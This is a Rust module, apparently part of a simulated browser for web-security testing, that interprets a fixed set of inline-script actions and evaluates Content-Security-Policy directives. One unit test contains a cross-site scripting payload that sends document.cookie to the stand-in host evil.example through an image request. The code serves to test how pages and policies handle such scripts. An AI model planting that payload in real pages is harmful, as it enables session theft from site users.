//! What a script on a page may do here: a closed list.
//!
//! It may read `document.cookie`, send a request (`fetch`, an image, a new location) and submit a
//! form of its page. Anything else is reported as not understood, never passed over in silence.
//! Deliberately absent: a script engine.

mod expression;

use url::Url;

use expression::{Cursor, Environment};

/// One thing a script does.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Effect {
    /// `fetch(url, { method, body, credentials })`.
    Fetch {
        /// Where to.
        url: String,
        /// `GET` unless said otherwise.
        method: String,
        /// The body, if any.
        body: String,
        /// `credentials: "include"`, or same-origin by default.
        include_credentials: bool,
    },
    /// `new Image().src = url`.
    Image(String),
    /// `location = url`.
    Navigate(String),
    /// `document.forms[n].submit()`.
    Submit(usize),
}

/// A script that is not on the list.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("this script does something a simulated browser does not do: `{0}`")]
pub struct NotUnderstood(pub String);

/// The effects of an inline script, in order.
///
/// `cookie` is what `document.cookie` gives on this page.
///
/// # Errors
/// The first statement that is not on the list.
pub fn effects(script: &str, cookie: &str, page: &Url) -> Result<Vec<Effect>, NotUnderstood> {
    let environment = Environment { cookie, location: page.as_str() };
    let mut cursor = Cursor::new(script);
    let mut found = Vec::new();
    while !cursor.at_end() {
        found.push(statement(&mut cursor, &environment).ok_or_else(|| NotUnderstood(cursor.rest_of_line()))?);
        cursor.skip_separators();
    }
    Ok(found)
}

fn statement(cursor: &mut Cursor<'_>, environment: &Environment<'_>) -> Option<Effect> {
    if cursor.eat("fetch(") {
        return fetch(cursor, environment);
    }
    if cursor.eat("new Image().src") && cursor.eat("=") {
        return cursor.expression(environment).map(Effect::Image);
    }
    if cursor.eat("document.forms[") {
        let form = cursor.number()?;
        return cursor.eat("].submit()").then_some(Effect::Submit(form));
    }
    if cursor.eat("location.href") || cursor.eat("window.location") || cursor.eat("location") {
        return cursor.eat("=").then(|| cursor.expression(environment).map(Effect::Navigate))?;
    }
    None
}

fn fetch(cursor: &mut Cursor<'_>, environment: &Environment<'_>) -> Option<Effect> {
    let url = cursor.expression(environment)?;
    let (mut method, mut body, mut include_credentials) = ("GET".to_owned(), String::new(), false);
    if cursor.eat(",") && cursor.eat("{") {
        while !cursor.eat("}") {
            let key = cursor.word()?;
            cursor.eat(":").then_some(())?;
            let value = cursor.expression(environment)?;
            match key.as_str() {
                "method" => method = value.to_ascii_uppercase(),
                "body" => body = value,
                "credentials" => include_credentials = value == "include",
                "mode" => {}
                _ => return None,
            }
            cursor.eat(",");
        }
    }
    cursor.eat(")").then_some(Effect::Fetch { url, method, body, include_credentials })
}

/// May an inline script run under this Content-Security-Policy (CSP level 3, section 6.7.3)?
#[must_use]
pub fn inline_script_allowed(csp: Option<&str>) -> bool {
    sources(csp, &["script-src-elem", "script-src", "default-src"])
        .is_none_or(|list| list.iter().any(|s| s.eq_ignore_ascii_case("'unsafe-inline'")))
}

/// May a page load or send to this URL under a directive of its policy?
#[must_use]
pub fn request_allowed(csp: Option<&str>, directive: &str, page: &Url, target: &Url) -> bool {
    let Some(list) =
        sources(csp, &[directive, if matches!(directive, "form-action" | "navigate-to") { "" } else { "default-src" }])
    else {
        return true;
    };
    list.iter().any(|source| match source.as_str() {
        "*" => true,
        "'self'" => page.origin() == target.origin(),
        "'none'" => false,
        scheme if scheme.ends_with(':') => scheme.trim_end_matches(':') == target.scheme(),
        host => Url::parse(host).is_ok_and(|u| u.origin() == target.origin()) || target.host_str() == Some(host),
    })
}

/// The source list of the first of these directives that the policy has.
fn sources(csp: Option<&str>, directives: &[&str]) -> Option<Vec<String>> {
    let policy = csp?;
    directives.iter().find_map(|wanted| {
        policy.split(';').find_map(|directive| {
            let mut words = directive.split_whitespace();
            words.next().filter(|name| name.eq_ignore_ascii_case(wanted))?;
            Some(words.map(str::to_owned).collect())
        })
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn run(script: &str) -> Result<Vec<Effect>, NotUnderstood> {
        effects(script, "sid=abc; lang=en", &Url::parse("https://hotel.grand.example/book").unwrap())
    }

    #[test]
    fn a_script_can_send_the_cookie_away() {
        let sent = run("new Image().src = 'https://evil.example/?c=' + encodeURIComponent(document.cookie);").unwrap();
        assert_eq!(sent, vec![Effect::Image("https://evil.example/?c=sid%3Dabc%3B%20lang%3Den".into())]);
    }

    #[test]
    fn a_script_can_fetch_and_submit() {
        let done =
            run("fetch('/coats', { method: 'post', body: 'a=1', credentials: 'include' })\ndocument.forms[0].submit()")
                .unwrap();
        assert_eq!(done.len(), 2);
        assert_eq!(done[1], Effect::Submit(0));
    }

    #[test]
    fn anything_else_is_said_not_skipped() {
        assert_eq!(run("alert(1); fetch('/x')").unwrap_err().0, "alert(1); fetch('/x')");
    }

    #[test]
    fn a_policy_without_unsafe_inline_keeps_inline_script_from_running() {
        assert!(inline_script_allowed(None));
        assert!(inline_script_allowed(Some("script-src 'self' 'unsafe-inline'")));
        assert!(!inline_script_allowed(Some("default-src 'self'")));
        assert!(inline_script_allowed(Some("img-src 'none'")));
    }

    #[test]
    fn a_policy_names_where_a_page_may_send_to() {
        let page = Url::parse("https://hotel.grand.example/").unwrap();
        let evil = Url::parse("https://evil.example/x").unwrap();
        assert!(request_allowed(Some("img-src *"), "img-src", &page, &evil));
        assert!(!request_allowed(Some("default-src 'self'"), "img-src", &page, &evil));
        assert!(
            request_allowed(Some("default-src 'self'"), "form-action", &page, &evil),
            "form-action has no fallback"
        );
    }
}
